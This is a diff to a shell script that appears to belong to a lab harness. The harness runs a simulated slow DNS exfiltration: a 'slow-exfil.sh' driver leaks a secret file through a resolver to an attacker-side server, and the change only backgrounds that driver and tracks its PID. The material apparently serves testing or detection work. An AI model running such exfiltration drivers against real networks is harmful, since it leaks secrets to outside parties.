@@ -20,7 +20,11 @@ scenario_main() {
   local start_ms end_ms bytes
   bytes=$(stat -c %s "$secret")
   start_ms=$(now_ms)
-  in_ns "$NS_CLIENT" "$LAB_DIR/drivers/slow-exfil.sh" "$RESOLVER" "$client" "$tdomain" "$secret" 25 5 10 "${EXFIL_SEED:-7}" >"$OUTDIR/slow-exfil.sent.log"
+  # In the background, so a signal to the run is handled at once.
+  in_ns "$NS_CLIENT" "$LAB_DIR/drivers/slow-exfil.sh" "$RESOLVER" "$client" "$tdomain" "$secret" 25 5 10 "${EXFIL_SEED:-7}" >"$OUTDIR/slow-exfil.sent.log" &
+  echo $! >"$RUN/pids/slow-exfil-driver.pid"
+  wait "$(cat "$RUN/pids/slow-exfil-driver.pid")" || die "slow-exfil: the leaking script failed"
+  rm -f "$RUN/pids/slow-exfil-driver.pid"
   end_ms=$(now_ms)
   sleep 1
   # The far end: every distinct <chunk>.<seq> the attacker's server was asked, in sequence order.
